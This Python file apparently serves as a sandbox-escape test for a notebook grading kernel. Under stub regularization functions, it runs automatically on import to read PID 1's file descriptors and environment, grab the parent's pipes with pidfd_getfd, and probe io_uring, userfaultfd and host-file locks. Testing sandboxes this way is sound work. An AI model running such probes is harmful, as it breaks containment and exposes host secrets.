"""Attack: reach the warm parent's request and reply pipes, and probe the seccomp gaps (see README.md)."""

import ctypes
import fcntl
import os
import sys

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
NR_PIDFD_OPEN, NR_PIDFD_GETFD, NR_IO_URING_SETUP, NR_USERFAULTFD = 434, 438, 425, 323
UFFD_USER_MODE_ONLY = 1
F_OFD_SETLK = 37
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _call(*args):
    result = _libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return result if result >= 0 else f"errno {ctypes.get_errno()} ({os.strerror(ctypes.get_errno())})"


def _attack():
    # The request pipe (fd 0) and the reply pipe of PID 1, through /proc.
    for path in ("/proc/1/fd", "/proc/1/fdinfo", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/3", "/proc/1/fd/4",
                 "/proc/1/environ", "/proc/1/cwd", "/proc/1/root/tmp", "/proc/1/map_files"):
        try:
            if os.path.isdir(path):
                got = os.listdir(path)
            else:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                got = f"opened: {os.readlink(f'/proc/self/fd/{fd}')}"
                os.close(fd)
            opened = isinstance(got, str) and path.startswith(("/proc/1/fd/", "/proc/1/environ", "/proc/1/cwd"))
            _say(f"{MARK} {path}: {got}" if opened else f"{path}: {got}")  # a listing shows numbers only
        except OSError as error:
            _say(f"{path}: {error!r}")
    pidfd = _call(NR_PIDFD_OPEN, 1, 0)
    _say(f"pidfd_open(1): {pidfd}")
    if isinstance(pidfd, int):
        for target in (0, 3, 4, 5):
            got = _call(NR_PIDFD_GETFD, pidfd, target, 0)
            _say(f"pidfd_getfd(PID 1, {target}): {got}")
            if isinstance(got, int):
                _say(f"{MARK} took PID 1's fd {target}: {os.readlink(f'/proc/self/fd/{got}')}")
                os.close(got)
        os.close(pidfd)
    # Every fd this kernel holds (no copy of the request or reply pipe may be among them).
    fds = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            fds[name] = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            pass
    _say(f"this kernel's fds: {fds}")
    # Seccomp gaps: io_uring, userfaultfd (user mode only), locks on host files.
    params = ctypes.create_string_buffer(120)
    ring = _call(NR_IO_URING_SETUP, 1, params)
    _say(f"io_uring_setup: {ring}")
    if isinstance(ring, int):
        os.close(ring)
    uffd = _call(NR_USERFAULTFD, UFFD_USER_MODE_ONLY | os.O_CLOEXEC)
    _say(f"userfaultfd(UFFD_USER_MODE_ONLY): {uffd}")
    if isinstance(uffd, int):
        os.close(uffd)
    for path in ("/etc/ld.so.cache", "/usr/bin/python3", sys.executable):
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError as error:
            _say(f"{path}: {error!r}")
            continue
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            _say(f"flock(LOCK_EX) on the host's {path}: taken (released at once)")
            fcntl.flock(fd, fcntl.LOCK_UN)
        except OSError as error:
            _say(f"flock {path}: {error!r}")
        try:
            fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
            _say(f"fcntl read lock on the host's {path}: taken (released at once)")
            fcntl.lockf(fd, fcntl.LOCK_UN)
        except OSError as error:
            _say(f"lockf {path}: {error!r}")
        os.close(fd)


if "ipykernel" in sys.modules:
    _attack()
